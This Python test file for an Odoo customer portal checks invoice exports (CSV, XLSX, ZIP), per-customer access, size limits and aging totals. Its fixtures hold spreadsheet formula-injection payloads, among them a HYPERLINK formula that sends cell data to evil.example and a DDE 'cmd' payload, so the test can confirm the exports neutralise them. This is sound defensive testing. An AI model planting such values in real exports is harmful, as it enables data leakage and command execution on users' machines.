import csv
import io
import zipfile
from datetime import timedelta

from openpyxl import load_workbook

from odoo.tests import tagged

from .common import KanbanPortalDocumentsHttpCommon, cents, expected_group, owed_by, read_amount


@tagged("post_install", "-at_install")
class TestExports(KanbanPortalDocumentsHttpCommon):
    """CSV, XLSX and ZIP of the list the customer is looking at, and aging."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.evil = cls._make_document(cls.customer_a, 10.0, ref='=HYPERLINK("http://evil.example/?x="&A1,"pay")')
        cls.evil_plus = cls._make_document(cls.customer_a, 11.0, ref="+cmd|' /C calc'!A0")
        cls.evil_at = cls._make_document(cls.customer_a, 12.0, ref="@SUM(1+1)")
        cls.evil_minus = cls._make_document(cls.customer_a, 13.0, ref="-2+3")

    def _csv(self, query=""):
        response = self.url_open(f"/my/invoices/export/csv{query}")
        self.assertEqual(response.status_code, 200, response.text[:300])
        self.assertIn("text/csv", response.headers["Content-Type"])
        self.assertIn("attachment", response.headers["Content-Disposition"])
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        return rows[0], rows[1:]

    def test_csv_is_the_list_shown(self):
        self.authenticate(self.user_a1.login, self.user_a1.login)
        own = self.customer_documents(self.customer_a)
        header, rows = self._csv()
        self.assertEqual(header[0], "Number")
        self.assertEqual(sorted(row[0] for row in rows), sorted(own.mapped("name")))
        # the same group, search and dates as the page
        for key in ("overdue", "not_paid", "partial", "paid"):
            with self.subTest(group=key):
                _header, rows = self._csv(f"?group={key}")
                expected = own.filtered(lambda m, key=key: expected_group(m, self.today) == key)
                self.assertEqual(sorted(row[0] for row in rows), sorted(expected.mapped("name")))
                page_ids = self.rows_by_group(self.parse(self.url_open(f"/my/invoices?group={key}")))[key]
                self.assertEqual(len(page_ids), len(rows))
        _header, rows = self._csv("?search=PO-A-NOTDUE")
        self.assertEqual([row[0] for row in rows], [self.docs_a["not_due"].name])
        date = self.today - timedelta(days=45)
        _header, rows = self._csv(f"?date_end={date}")
        self.assertEqual(
            sorted(row[0] for row in rows), sorted(own.filtered(lambda m: m.invoice_date <= date).mapped("name"))
        )
        # amounts: signed, numeric
        _header, rows = self._csv("?search=PO-A-NOTDUE")
        self.assertEqual(float(rows[0][7]), self.docs_a["not_due"].amount_residual)

    def test_formula_injection_neutralised(self):
        self.authenticate(self.user_a1.login, self.user_a1.login)
        _header, rows = self._csv()
        refs = {row[0]: row[1] for row in rows}
        for move in (self.evil, self.evil_plus, self.evil_at, self.evil_minus):
            self.assertEqual(refs[move.name], "'" + move.ref)
        response = self.url_open("/my/invoices/export/xlsx")
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
        values = list(sheet.iter_rows(values_only=True))
        by_name = {row[0]: row for row in values[1:]}
        for move in (self.evil, self.evil_plus, self.evil_at, self.evil_minus):
            self.assertEqual(by_name[move.name][1], "'" + move.ref)
        for row in values[1:]:
            for cell in row:
                self.assertFalse(isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")), cell)
        # amounts are numbers, credit notes negative
        credit = self.docs_a["credit_note"]
        self.assertEqual(by_name[credit.name][7], -credit.amount_residual)

    def test_zip_of_pdfs(self):
        self.authenticate(self.user_a1.login, self.user_a1.login)
        response = self.url_open("/my/invoices/export/zip?group=overdue")
        self.assertEqual(response.status_code, 200, response.text[-3000:])
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        expected = self.customer_documents(self.customer_a).filtered(
            lambda m: expected_group(m, self.today) == "overdue"
        )
        self.assertEqual(len(archive.namelist()), len(expected))
        for name in archive.namelist():
            self.assertTrue(archive.read(name).startswith(b"%PDF"), name)

    def test_only_own_documents_whatever_the_parameters(self):
        foreign = self.customer_documents(self.customer_a)
        own = self.customer_documents(self.customer_b)
        self.authenticate(self.user_b1.login, self.user_b1.login)
        for fmt in ("csv", "xlsx"):
            for query in ("", "?group=overdue", f"?search={foreign[0].name}", "?partner_id=%d" % self.customer_a.id):
                with self.subTest(fmt=fmt, query=query):
                    response = self.url_open(f"/my/invoices/export/{fmt}{query}")
                    self.assertEqual(response.status_code, 200)
                    if fmt == "xlsx":
                        sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
                        rows = list(sheet.iter_rows(values_only=True))
                    else:
                        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
                    cells = {cell for row in rows for cell in row}
                    self.assertFalse(cells & set(foreign.mapped("name")))
                    self.assertFalse(cells & {move.ref for move in foreign if move.ref})
                    self.assertTrue({row[0] for row in rows[1:]} <= set(own.mapped("name")))
        response = self.url_open(f"/my/invoices/export/zip?search={foreign[0].name}")
        self.assertEqual(zipfile.ZipFile(io.BytesIO(response.content)).namelist(), [])
        self.assertEqual(self.url_open("/my/invoices/export/exe").status_code, 404)

    def test_exports_above_maximum_are_refused(self):
        self.env.company.kanban_portal_export_max = 3
        self.env.company.kanban_portal_zip_max = 2
        self.authenticate(self.user_a1.login, self.user_a1.login)
        for fmt in ("csv", "xlsx", "zip"):
            with self.subTest(fmt=fmt):
                response = self.url_open(f"/my/invoices/export/{fmt}")
                self.assertEqual(response.status_code, 400)
                self.assertIn("text/html", response.headers["Content-Type"])
                self.assertIn("at most", response.text)
        # a narrower list goes through
        response = self.url_open("/my/invoices/export/csv?search=PO-A-NOTDUE")
        self.assertEqual(response.status_code, 200)

    def test_anonymous_is_sent_to_login(self):
        for url in ("/my/invoices/export/csv", "/my/invoices/statement", "/my/invoices/report_payment"):
            response = self.url_open(url, allow_redirects=False)
            self.assertEqual(response.status_code, 303, url)
            self.assertIn("/web/login", response.headers["Location"])

    def test_aging_buckets_match_the_documents(self):
        own = self.customer_documents(self.customer_a).filtered(
            lambda m: m.payment_state in ("not_paid", "partial", "blocked")
        )

        def bucket(move):
            days = (self.today - move.invoice_date_due).days
            if move.move_type == "out_refund" or days <= 0:
                return "not_due"
            if days <= 30:
                return "1_30"
            if days <= 60:
                return "31_60"
            if days <= 90:
                return "61_90"
            return "over_90"

        expected = owed_by(own, lambda move: (move.currency_id.name, bucket(move)))
        self.authenticate(self.user_a1.login, self.user_a1.login)
        tree = self.parse(self.url_open("/my/invoices"))
        found = {}
        for card in tree.xpath("//*[@data-summary-currency]"):
            currency = card.get("data-summary-currency")
            total = 0.0
            for row in card.xpath(".//tr[@data-aging]"):
                amount = read_amount(row)
                total += amount
                if amount:
                    found[(currency, row.get("data-aging"))] = amount
            self.assertAlmostEqual(total, read_amount(card, "data-owed"), places=2)
        self.assertEqual(found, cents(expected))
        self.assertIn(("USD", "1_30"), found)
        self.assertIn(("USD", "31_60"), found)
